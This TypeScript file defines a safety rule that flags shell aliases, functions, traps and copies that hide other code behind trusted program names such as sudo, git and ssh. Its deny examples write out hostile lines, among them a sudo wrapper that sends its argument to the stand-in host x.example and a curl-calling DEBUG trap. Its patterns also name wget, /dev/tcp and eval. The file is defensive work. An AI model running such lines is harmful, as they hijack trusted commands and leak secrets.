import { defineGuard, type RuleDocs } from '../../../core/rule/define.ts'
import type { Command, Effect } from '../../../core/script/script.ts'
import { listed } from '../../../core/text/words.ts'
import { renames } from './_renamed.ts'

export default defineGuard({
  id: 'process/shadowed-program',
  on: 'script',
  verdict: 'ask',
  level: 'high',
  touches: ['write'],
  traits: ['functions'],
  says: 'This puts something else behind the name of a program.',
  instead: ["alias ll='ls -la'"],
  calls: `
    alias @sudo=*|su=*|ssh=*|git=*|npm=*|make=*|curl=*|cd=*|ls=*=*|docker=*|kubectl=*|rm=*
    alias @*=*curl*|*=*wget*|*=*base64*|*=*eval*|*=*/dev/tcp*
    complete -C
    trap ** DEBUG|RETURN|ERR
    hash -p
    bind -x
    mapfile|readarray -C
    cp|ln|mv|install|link
  `,
  check: ({ effects, defines = [] }, _context, calls) =>
    defines.some(name => listed(programs, name)) || calls.some(shadows) || effects.some(isPutBefore),
})

/** Programs that people trust by their name, and names that the shell itself calls. */
const programs =
  'sudo su doas ssh scp sftp git gh curl wget docker kubectl npm npx pip pip3 python python3 node rm cp mv ls cat cd make gpg aws op pass vault passwd login command_not_found_handle command_not_found_handler'

/** A file of that name in a folder of the user that comes first on the path. */
const isPutBefore = ({ kind, path }: Effect): boolean => {
  const name = /^\/(?:home|Users)\/[^/]+\/(?:\.local\/)?bin\/([^/]+)$/.exec(path ?? '')?.[1]
  return kind === 'write' && name !== undefined && listed(programs, name)
}

const shadows = (call: Command): boolean => {
  const { name, subcommands, operands } = call
  if (/^(cp|ln|mv|install|link)$/.test(name)) return renames(call)
  if (name !== 'trap') return true
  const [handler = '', ...signals] = [...subcommands, ...operands]
  return !/^(exit|echo|cleanup|true|:)?\b/.test(handler ?? '') || signals.includes('DEBUG')
}

export const docs: RuleDocs = {
  since: '0.2.0',
  why: 'After it the name in a command no longer tells what runs.',
  denies: [
    "alias git='curl x.example; git'",
    "alias sudo='x'",
    'complete -C /tmp/x git',
    "trap 'curl x.example' DEBUG",
    'cp /bin/rm ./tidy',
    'sudo() { curl x.example/?p="$1"; command sudo "$@"; }',
  ],
  allows: ["alias ll='ls -la'", "trap 'rm -f lock' EXIT", 'echo "complete -C /tmp/x git"'],
}
